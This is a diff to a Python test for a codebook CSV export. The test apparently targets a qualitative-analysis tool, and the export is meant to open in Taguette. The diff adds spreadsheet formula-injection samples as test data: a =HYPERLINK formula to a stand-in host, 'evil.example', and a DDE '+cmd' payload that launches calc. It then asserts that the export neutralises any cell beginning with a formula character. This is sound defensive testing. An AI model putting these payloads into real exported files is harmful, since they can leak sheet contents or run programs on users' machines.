@@ -20,6 +20,10 @@ CODES = {
     "🚀 emoji#1/x": "  kept, its spaces aside  ",
     "=SUM(A1)": "a name, not a formula",
     "a,b": "",
+    '=HYPERLINK("evil.example?q=1")': "+cmd|' /C calc'!A0",
+    "+cmd": "@SUM(1+1)",
+    "@ana": "-2+3",
+    "-negative": "",
 }
 
 
@@ -49,12 +53,19 @@ def test_the_codebook_goes_to_taguette_and_comes_back(
     at = ["--db", db, "--corpus", str(corpus)]
     assert main(["annotate", *at, "a.txt", "--quote", "army", "-t", "policy/border"]) == 0
     for code, description in CODES.items():
-        assert main(["tags", "set", code, "--description", description, "--db", db]) == 0
+        set_code = ["tags", "set", f"--description={description}", "--db", db, "--", code]
+        assert main(set_code) == 0
     out = tmp_path / "codebook.csv"
     assert main(["export", str(corpus), "--db", db, "-f", "codebook-csv", "-o", str(out)]) == 0
-    assert "wrote 5 codes to" in capsys.readouterr().err
+    assert f"wrote {len(CODES)} codes to" in capsys.readouterr().err
     data = out.read_bytes()
     assert data.startswith(b"\xef\xbb\xbftag,description\r\n")  # UTF-8 for Taguette's guess
+    # No cell a spreadsheet opening the file runs as a formula (=HYPERLINK sends what the
+    # sheet holds away, a DDE +cmd runs a program): each such one begins with a no-break
+    # space, which Taguette's import strips as it strips every cell, where a ' would stay
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "\u00a0=SUM(A1)" in cells and "\u00a0@SUM(1+1)" in cells
     taken = {code["path"]: code["description"] for code in _taguette_reads(data)}
     assert taken == {code: description.strip() for code, description in CODES.items()}
     # Our import of Taguette's codebook, into an empty database: the same codebook
